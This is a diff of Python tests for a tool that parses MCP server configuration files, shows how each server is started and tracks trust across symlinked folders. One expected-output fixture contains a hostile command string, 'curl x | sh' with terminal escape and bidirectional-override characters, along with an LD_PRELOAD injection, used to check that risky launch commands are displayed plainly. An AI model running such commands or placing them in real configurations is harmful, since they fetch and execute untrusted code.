@@ -146,7 +146,7 @@ def test_the_whole_command_is_shown_without_secrets(tmp_path: Path) -> None:
     servers = written(tmp_path, {"a": entry, "web": web}).servers
     assert started_by(servers["a"]) == [
         "sh -c 'curl x | sh; echo \\x1b[31m\\u202e hidden' '${HOME}'",
-        "in 'sub dir'",
+        f"in '{tmp_path}/sub dir'",
         "with LD_PRELOAD=./x.so",
         "with API_KEY (its value is not shown)",
     ]
@@ -172,3 +172,23 @@ def test_any_entry_can_be_shown_and_each_of_its_lines_is_one_line_of_print(entry
     lines = started_by(Configuration.parse(text, source=Path("mcp.json")).servers["a"])
     assert lines
     assert all(line.isprintable() for line in lines)
+
+
+@pytest.mark.requirement("graphs2.own-folder")
+def test_a_file_reached_by_another_way_is_the_same_and_one_that_is_linked_elsewhere_is_not(
+    tmp_path: Path, trust: Trust
+) -> None:
+    entries = {"a": {"command": "./serve", "args": ["serve.py"], "cwd": "sub"}}
+    (tmp_path / "real").mkdir()
+    trust.accept(written(tmp_path / "real", entries))
+    (tmp_path / "way").symlink_to("real")
+    same = Configuration.read(tmp_path / "way" / "mcp.json")
+    assert kinds(trust, same) == {}
+    assert (same.servers["a"].command, same.servers["a"].cwd) == (
+        str(tmp_path / "real/sub/serve"),
+        tmp_path / "real/sub",
+    )
+    assert started_by(same.servers["a"])[1] == f"in {tmp_path}/real/sub"
+    (tmp_path / "linked").mkdir()
+    (tmp_path / "linked" / "mcp.json").symlink_to(tmp_path / "real" / "mcp.json")
+    assert kinds(trust, Configuration.read(tmp_path / "linked" / "mcp.json")) == {"a": "changed"}
